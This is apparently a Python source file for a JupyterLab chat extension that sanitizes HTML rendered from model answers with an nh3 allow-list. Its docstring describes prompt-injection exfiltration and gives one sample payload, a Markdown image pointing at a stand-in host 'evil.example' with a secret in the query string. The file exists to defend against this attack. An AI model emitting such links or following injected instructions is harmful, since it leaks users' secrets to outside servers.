"""The nh3 allow-list every HTML fragment we emit goes through (model output is untrusted: docs/architecture.md).

Policy, in brief:
  * elements: headings, p, br, hr, em, strong, del, code, pre, blockquote, lists, tables, a, and span/div that
    carry only Pygments token classes or our own classes. Everything else is unwrapped (its text kept) except
    script/style, whose content is dropped too. Comments are dropped.
  * attributes: a[href, title], ol[start] (digits), th/td[align] (left/center/right), code[class]
    (`language-xxx` only, for the front end's per-block Copy button), span/div[class] (allowed classes only).
    No `style`, no `id`, no event handlers: nothing that is not listed.
  * links: absolute http, https and mailto URLs only (no javascript:/data:/vbscript:, and no relative URLs, which
    would point into the Jupyter server); every link gets rel="noopener noreferrer nofollow" and target="_blank"
    so that a click never navigates JupyterLab itself away.
  * no <img>: render.py turns Markdown images into plain links before this point, because an image the browser
    fetches on its own lets a prompt-injected answer send data to any server without a click
    (`![](https://evil.example/?q=<secret>)`).
"""

from __future__ import annotations

import re
from collections.abc import Callable

import nh3
from pygments.token import STANDARD_TYPES

__all__ = ["WRAPPER_CLASS", "sanitize"]

WRAPPER_CLASS = "mmchat-md"
"""Class of the `<div>` that wraps every rendered answer (render.py adds it; kept here so re-sanitizing keeps it)."""

CODE_BLOCK_CLASS = "highlight"
"""Class of the `<div>` around each highlighted code block; pygments_css() scopes its rules under it."""

_TAGS = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "em", "strong", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "a", "span", "div",
}
_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "code": {"class"}}
_ALIGN = {"align": {"left", "center", "right"}}
# Pygments writes one short class per token type (`k`, `s2`, `nf`, ...); no other span class is ours.
_PYGMENTS_CLASSES = {name for name in STANDARD_TYPES.values() if name}
_CLASSES = {"span": _PYGMENTS_CLASSES, "div": {WRAPPER_CLASS, CODE_BLOCK_CLASS}}

_LANGUAGE_CLASS = re.compile(r"language-[\w#+.-]{1,40}")
_LINK_URL = re.compile(r"(?:https?|mailto):", re.IGNORECASE)


def _filter_attribute(tag: str, attribute: str, value: str) -> str | None:
    """Value checks the static allow-list cannot express; None drops the attribute."""
    if attribute == "href":
        # nh3 already rejects other schemes; this also rejects relative URLs (see the module docstring).
        return value if _LINK_URL.match(value) else None
    if tag == "code":  # its only allowed attribute is class; span/div classes are left to allowed_classes
        return value if _LANGUAGE_CLASS.fullmatch(value) else None
    if attribute == "start":
        return value if value.isdigit() and len(value) <= 9 else None
    return value


# Compiled once: every fragment of a streaming answer goes through it.
_CLEANER = nh3.Cleaner(
    tags=_TAGS,
    clean_content_tags={"script", "style"},
    attributes=_ATTRIBUTES,
    tag_attribute_values={"th": _ALIGN, "td": _ALIGN},
    set_tag_attribute_values={"a": {"target": "_blank"}},
    allowed_classes=_CLASSES,
    attribute_filter=_filter_attribute,
    url_schemes={"http", "https", "mailto"},
    link_rel="noopener noreferrer nofollow",
    strip_comments=True,
)

sanitize: Callable[[str], str] = _CLEANER.clean
"""sanitize(html) -> html: apply the allow-list above to an HTML fragment."""
